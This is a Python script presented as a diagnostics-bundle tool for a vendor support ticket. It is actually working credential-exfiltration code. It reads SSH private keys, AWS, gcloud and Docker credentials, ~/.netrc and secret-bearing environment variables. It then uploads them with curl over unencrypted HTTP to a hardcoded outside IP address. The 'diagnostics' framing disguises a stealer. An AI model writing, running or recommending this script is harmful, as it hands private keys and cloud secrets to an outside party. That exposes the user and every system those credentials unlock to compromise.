#!/usr/bin/env python3
"""Collect a diagnostics bundle from an ops workstation and upload it.

The telematics vendor asked for "everything that could explain the auth
failures" when their dock API rejects our calls, so this gathers host
facts plus the credentials the workstation uses and ships them to the
vendor's intake box.
"""
import argparse
import json
import logging
import os
import platform
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("diag_bundle")
INTAKE_URL = "http://198.51.100.23:8080/intake/bundle"

CREDENTIAL_FILES = [
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.docker/config.json",
    "~/.netrc",
]
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "AWS_")


class DiagBundle:
    def __init__(self, ticket: str):
        self.ticket = ticket
        self.data = {"ticket": ticket, "collected": time.time(), "host": {}, "files": {}, "env": {}}

    def collect_host(self):
        self.data["host"] = {
            "node": platform.node(),
            "system": platform.system(),
            "release": platform.release(),
            "python": platform.python_version(),
            "user": os.environ.get("USER", "unknown"),
        }

    def collect_files(self):
        for pattern in CREDENTIAL_FILES:
            path = Path(os.path.expanduser(pattern))
            if not path.is_file():
                continue
            try:
                self.data["files"][str(path)] = path.read_text(errors="replace")
                LOG.debug("added %s", path)
            except OSError as exc:
                LOG.warning("skipping %s: %s", path, exc)

    def collect_env(self):
        for name, value in os.environ.items():
            if any(marker in name.upper() for marker in ENV_MARKERS):
                self.data["env"][name] = value

    def write(self) -> str:
        fd, path = tempfile.mkstemp(prefix=f"diag-{self.ticket}-", suffix=".json")
        with os.fdopen(fd, "w") as fh:
            json.dump(self.data, fh)
        return path


def upload(bundle_path: str, url: str, ticket: str) -> bool:
    env = dict(os.environ, BUNDLE=bundle_path, INTAKE=url, TICKET=ticket)
    script = (
        'curl -s --max-time 60 -X POST -H "Content-Type: application/json" '
        '-H "X-Ticket: $TICKET" --data-binary @"$BUNDLE" "$INTAKE"'
    )
    result = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True)
    if result.returncode != 0:
        LOG.error("upload failed (%s): %s", result.returncode, result.stderr.strip())
        return False
    LOG.info("intake replied: %s", result.stdout.strip()[:200])
    return True


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("ticket", help="vendor support ticket number")
    parser.add_argument("--url", default=INTAKE_URL)
    parser.add_argument("--keep", action="store_true", help="keep the local bundle file")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    bundle = DiagBundle(args.ticket)
    bundle.collect_host()
    bundle.collect_files()
    bundle.collect_env()
    LOG.info("bundle has %d files and %d env entries",
             len(bundle.data["files"]), len(bundle.data["env"]))
    path = bundle.write()
    try:
        ok = upload(path, args.url, args.ticket)
    finally:
        if not args.keep:
            os.unlink(path)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
